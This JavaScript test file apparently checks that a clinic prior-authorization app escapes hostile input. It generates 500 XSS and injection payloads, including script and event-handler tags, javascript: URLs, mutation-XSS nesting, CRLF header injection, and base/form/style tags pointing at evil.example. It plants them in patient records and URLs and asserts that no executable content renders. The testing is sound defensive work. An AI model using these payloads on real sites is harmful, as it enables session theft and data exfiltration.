// What agents and data can write is text on every page: no script, no handler, no address that runs.

import assert from "node:assert/strict";
import { Clinic } from "./clinic.js";
import { Visitor } from "./visitor.js";

const CODE = ["alert(1)", "alert`1`", "top['al'+'ert'](1)", "fetch('/x')", "document.title=1"];
const SHAPES = [
  (code) => `<script>${code}</script>`,
  (code) => `</textarea><script>${code}</script>`,
  (code) => `</title><script>${code}</script>`,
  (code) => `"><script>${code}</script>`,
  (code) => `'><img src=x onerror=${code}>`,
  (code) => `"><svg onload=${code}>`,
  (code) => `" autofocus onfocus="${code}`,
  (code) => `' onmouseover='${code}`,
  (code) => `javascript:${code}`,
  (code) => `JaVaScRiPt:${code}//`,
  (code) => `data:text/html,<script>${code}</script>`,
  (code) => `<a href="javascript:${code}">x</a>`,
  (code) => `<iframe srcdoc="<script>${code}</script>">`,
  (code) => `<math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${code} src>">`,
  (code) => `{{ ${code} }}`,
  (code) => `{% raw %}<script>${code}</script>{% endraw %}`,
  (code) => `&lt;script&gt;${code}&lt;/script&gt;`,
  (code) => `\u2028<script>${code}</script>`,
  (code) => `<details open ontoggle=${code}>`,
  (code) => `--><script>${code}</script><!--`,
  (code) => `</dd></dl><object data="javascript:${code}">`,
  (code) => `<base href="//evil.example/"><form action="//evil.example/">`,
  (code) => `<style>@import '//evil.example/${code}'</style>`,
  (code) => `<meta http-equiv="refresh" content="0;url=javascript:${code}">`,
  (code) => `%0d%0aSet-Cookie:%20a=${code}`,
];
const CASES = [(text) => text, (text) => text.toUpperCase(), (text) => `x${text}x`, (text) => text.replaceAll("<", "\uFF1C")];

// 25 shapes, 5 pieces of code, 4 ways to write them.
export const payloads = SHAPES.flatMap((shape) => CODE.flatMap((code) => CASES.map((write) => write(shape(code)))));

export async function injection(browser, url, key) {
  assert.equal(payloads.length, 500);
  let at = 0;
  const next = () => payloads[at++ % payloads.length];
  const hostile = Array.from({ length: 64 }, (_, number) => ({
    resourceType: "Patient", id: `h${number}`, birthDate: "1990-01-01",
    name: [{ family: next(), given: ["Hostile", next()] }], address: [{ city: next() }],
    identifier: [{ system: "urn:mrn", value: `H${number}` }],
  }));
  const short = () => next().slice(0, 90);
  const config = {
    default_determination: { status: "need_more_info", reason: next() },
    questions: [{ id: "q", text: next(), help: next() }, { id: "c", text: next(), kind: "choice", choices: [short(), short()] }],
    formulary: [{ drug: short(), tier: next(), step_therapy: next(), alternatives: [short()] }],
    faults: { renamed_labels: { diagnosis_code: short(), clinical_notes: short() } },
  };
  const clinic = await Clinic.open(url, key, config, hostile);
  for (let number = 0; number < 64; number += 1) {
    await clinic.submit({
      patient_member_id: `H${number}`, procedure_code: "70551", diagnosis_code: "G43.909", provider_npi: "1234567893",
      clinical_notes: next(), answers: { q: next(), [next().slice(0, 99)]: next() },
      documents: [{ name: next().replaceAll("/", "-").slice(0, 150).replace("\u2028", ""), content: "x" }],
    });
  }
  const context = await browser.newContext();
  const visitor = new Visitor(await context.newPage(), clinic, "injection");
  await visitor.open();
  await visitor.signIn();
  let pages = 0;
  const judge = async (path) => {
    await visitor.open(path);
    const found = await visitor.page.evaluate(dangers);
    assert.deepEqual(found, [], path);
    pages += 1;
  };
  for (let number = 1; number <= 64; number += 1) await judge(`/requests/PA-${100_000 + number}`);
  await judge("/requests/PA-100001/print");
  await judge("/drugs");
  await judge("/requests");
  await visitor.open("/requests");
  await visitor.press("New request");
  const draft = new URL(visitor.page.url()).pathname.split("/drafts/")[1].split("/")[0];
  for (const step of ["patient?name=hostile", "provider", "service", "clinical", "documents", "review"]) await judge(`/drafts/${draft}/${step}`);
  for (const payload of payloads.filter((_, index) => index % 20 === 0)) {
    await judge(`/requests?member=${encodeURIComponent(payload)}&notice=${encodeURIComponent(payload)}&determination=${encodeURIComponent(payload)}`);
    await judge(`/drafts/${draft}/patient?name=${encodeURIComponent(payload)}&member_id=${encodeURIComponent(payload)}`);
    await judge(`/requests/${encodeURIComponent(payload)}`);
  }
  await judge("/drafts");
  await context.close();
  assert.ok(at >= payloads.length, `${at} payloads were written`);
  return { payloads: payloads.length, pages };
}

// Runs in the page: everything in its tree that could run.
function dangers() {
  const found = [];
  for (const node of document.querySelectorAll("*")) {
    const name = node.localName;
    if (["script", "iframe", "object", "embed", "base", "style", "svg", "math"].includes(name)) found.push(name);
    if (name === "meta" && node.httpEquiv !== "") found.push("meta refresh");
    for (const attribute of node.attributes) {
      if (attribute.name.startsWith("on")) found.push(`${name} ${attribute.name}`);
      const isAddress = ["href", "src", "action", "formaction", "data", "srcdoc"].includes(attribute.name);
      if (isAddress && !attribute.value.startsWith("/") && !attribute.value.startsWith("#")) found.push(`${name} ${attribute.name}=${attribute.value}`);
    }
  }
  return found;
}
